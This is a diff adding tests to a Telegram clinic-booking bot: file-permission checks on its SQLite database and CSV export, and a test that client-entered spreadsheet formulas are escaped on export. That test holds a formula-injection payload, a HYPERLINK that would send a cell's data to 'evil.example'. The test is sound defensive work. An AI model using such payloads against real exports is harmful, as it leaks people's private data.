@@ -2,8 +2,12 @@
 
 from __future__ import annotations
 
+import asyncio
+import csv
 import logging
 import re
+import sqlite3
+import stat
 from collections.abc import AsyncIterator
 from dataclasses import dataclass
 from pathlib import Path
@@ -14,11 +18,14 @@ from telegram.error import InvalidToken
 
 from bot.app import build_application, start_application, stop_application
 from bot.content import Content
+from bot.export import export_requests
 from bot.logs import setup_logging
 from bot.storage import Storage
-from tests.bot.conftest import STAFF_CHAT, STAFF_USER, make_settings
+from tests.bot.conftest import STAFF_CHAT, STAFF_USER, Running, make_settings
 from tests.bot.driver import Person, book
 from tests.bot.fake_bot_api import FakeBotApi
+from tests.bot.test_cli import cli
+from tests.bot.test_crash import BotProcess
 from tests.bot.test_operations_e2e import free_port
 
 HEADER = "X-Telegram-Bot-Api-Secret-Token"
@@ -127,3 +134,86 @@ async def test_the_token_is_taken_out_of_logged_errors_tracebacks_and_stacks(
     assert "Traceback" in err and "was rejected by the server" in err and "stack" in err.lower()
     assert settings.token not in err and settings.token.partition(":")[2] not in err
     assert err.count("<token>") >= 2
+
+
+def mode(path: Path) -> int:
+    return stat.S_IMODE(path.stat().st_mode)
+
+
+def with_side_files(db: Path) -> list[Path]:
+    return [db, db.with_name(db.name + "-wal"), db.with_name(db.name + "-shm")]
+
+
+async def test_a_real_run_keeps_the_database_its_wal_and_shm_and_the_export_private(
+    api: FakeBotApi, tmp_path: Path
+) -> None:
+    db = tmp_path / "bot.sqlite3"
+    bot = BotProcess(api, db)
+    await bot.start()
+    try:
+        ann = Person(api, 42, "Ann")
+        await ann.say("hello", "", timeout=20)  # up and answering
+        await book(ann, {1: ["Blood thinners"]})
+        await api.wait_for_text(STAFF_CHAT, "Appointment request #1")
+        await api.wait_until_idle()
+        files = with_side_files(db)
+        assert all(f.exists() for f in files)
+        assert {f.name: mode(f) for f in files} == {f.name: 0o600 for f in files}
+    finally:
+        code, _ = await bot.terminate()
+    assert code == 0
+    out = tmp_path / "requests.csv"
+    result = await asyncio.to_thread(cli, "export", str(out), env={"CLINIC_DB": str(db)})
+    assert result.returncode == 0, result.stderr
+    assert "Blood thinners" in out.read_text(encoding="utf-8")
+    assert mode(out) == 0o600
+
+
+async def test_files_an_older_version_made_world_readable_are_made_private_at_open(
+    tmp_path: Path, content: Content
+) -> None:
+    db = tmp_path / "old.sqlite3"
+    older = sqlite3.connect(db)  # kept open, so its -wal and -shm stay on disk
+    older.execute("PRAGMA journal_mode=WAL")
+    older.execute("CREATE TABLE t (x)")
+    for file in with_side_files(db):
+        file.chmod(0o644)
+    storage = await Storage.open(db)
+    try:
+        assert [mode(f) for f in with_side_files(db)] == [0o600] * 3
+    finally:
+        await storage.close()
+        older.close()
+    fresh = tmp_path / "new.sqlite3"
+    await (await Storage.open(fresh)).close()
+    assert mode(fresh) == 0o600
+    out = tmp_path / "requests.csv"
+    out.write_text("an older export\n")
+    out.chmod(0o644)
+    await export_requests(db, out, content.questionnaire)
+    assert mode(out) == 0o600
+
+
+async def test_formulas_typed_by_a_client_are_exported_as_text(
+    running: Running, tmp_path: Path
+) -> None:
+    ann = Person(running.api, 42, "Ann")
+    evil = '=HYPERLINK("http://evil.example/?d="&H2,"Click")'
+    await ann.say("/book", "Do you agree?")
+    await ann.tap("✅ I agree", "Health check (1 of 4)")
+    for following in ("(2 of 4)", "(3 of 4)", "(4 of 4)", "What name"):
+        await ann.tap("None of these", following)
+    await ann.say("Ann", "best phone number")
+    await ann.say("07700 900123", "When would suit you?")
+    await ann.say(evil, "What would you like us to work on?")
+    await ann.say("-1+1 shoulders", "Here's your request")
+    await ann.tap("✅ Send request", "is with our team")
+    out = tmp_path / "requests.csv"
+    assert await export_requests(running.settings.db_path, out, running.content.questionnaire)
+    with out.open(encoding="utf-8", newline="") as handle:
+        (row,) = list(csv.DictReader(handle))
+    assert row["preferred_times"] == "'" + evil, "a spreadsheet shows it, does not run it"
+    assert row["focus"].startswith("'-1+1 shoulders")
+    assert row["name"] == "Ann" and row["phone"] == "07700900123", "other cells are unchanged"
+    for cell in row.values():
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
